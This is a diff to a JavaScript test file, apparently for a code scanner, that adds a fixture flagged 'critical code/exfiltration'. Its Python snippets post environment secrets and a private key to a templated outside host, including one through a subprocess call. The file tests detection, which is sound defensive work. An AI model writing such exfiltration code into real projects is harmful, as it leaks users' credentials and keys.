@@ -115,6 +115,12 @@ describe('each way', () => {
         'a.py': `import os, requests\nrequests.post("${to}", json={"a": os.environ["ACME_API_KEY"], "b": os.environ["BETA_TOKEN"], "c": os.environ["GAMMA_SECRET"]})\n`,
       },
     ],
+    [
+      'critical code/exfiltration: This gives private keys to a program that sends data elsewhere.',
+      {
+        'a.py': `import os, subprocess\nkey = ${key}\nsubprocess.run(["python3", "-c", f"import requests; requests.post('${to}', data='{key}')"])\n`,
+      },
+    ],
   ])('%s: %j', (what, files) => {
     expect(said(files)).toContainEqual(expect.stringContaining(what))
   })
